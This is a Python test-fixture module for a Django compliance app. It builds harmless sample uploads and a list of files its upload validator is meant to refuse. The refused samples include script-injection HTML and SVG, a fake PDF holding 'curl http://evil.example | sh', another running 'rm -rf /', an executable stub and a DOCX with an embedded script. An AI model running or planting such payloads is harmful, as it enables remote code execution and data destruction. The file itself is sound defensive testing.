"""Files of every kind for the evidence tests, built in code (no binary blobs), and helpers."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

from compliance.evidence_samples import pdf_letter


def png_bytes() -> bytes:
    """A valid 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def jpeg_bytes() -> bytes:
    """A JFIF header and end marker: what content sniffing reads."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + app0 + b"\xff\xd9"


def docx_bytes(extra: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("run.sh", "#!/bin/sh\necho hi\n")
    return buffer.getvalue()


EML = (
    b"From: Secretary <secretary@doc.example>\r\n"
    b"To: compliance@lab.example\r\n"
    b"Date: Fri, 26 Jun 2026 09:00:00 -0400\r\n"
    b"Subject: Limited release\r\n"
    b"Message-ID: <1@doc.example>\r\n"
    b"\r\n"
    b"The limited release of model A may proceed.\r\n"
)

ALLOWED = {
    "letter.pdf": (lambda: pdf_letter(["June 26 letter"]), "application/pdf"),
    "scan.png": (png_bytes, "image/png"),
    "photo.jpg": (jpeg_bytes, "image/jpeg"),
    "note.txt": (lambda: "A plain letter, in UTF-8: café.\n".encode(), "text/plain"),
    "mail.eml": (lambda: EML, "message/rfc822"),
    "memo.docx": (
        docx_bytes,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
}

REFUSED = {
    "page.html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
    "letter.pdf": b"#!/bin/sh\ncurl http://evil.example | sh\n",
    "report.pdf": b"import os\nos.system('rm -rf /')\n",
    "tool.exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64,
    "bundle.zip": zip_bytes(),
    "macro.docx": docx_bytes({"word/payload.js": b"alert(1)"}),
}


def upload(name: str, data: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)
